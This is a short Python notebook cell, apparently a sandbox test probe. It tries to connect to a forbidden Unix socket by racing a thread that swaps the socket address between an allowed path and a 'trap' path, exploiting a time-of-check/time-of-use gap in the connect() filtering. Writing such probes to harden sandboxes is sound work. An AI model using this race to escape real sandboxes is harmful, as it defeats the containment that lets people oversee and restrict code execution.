# %% first
import ctypes, os, socket, struct, threading, time
from ipykernel.connect import get_connection_file
def address(path):
    return struct.pack("=H", socket.AF_UNIX) + os.fsencode(path).ljust(108, b"\0")
allowed, wanted = address(os.path.dirname(get_connection_file()) + "/none"), address(traps["unix"])
shared = ctypes.create_string_buffer(allowed, len(allowed))
end = time.monotonic() + 1
def flip():
    while time.monotonic() < end:
        ctypes.memmove(shared, wanted, len(wanted))
        ctypes.memmove(shared, allowed, len(allowed))
threading.Thread(target=flip).start()
libc = ctypes.CDLL(None)
while time.monotonic() < end:
    with socket.socket(socket.AF_UNIX) as line:
        line.setblocking(False)
        libc.connect(line.fileno(), shared, len(allowed))
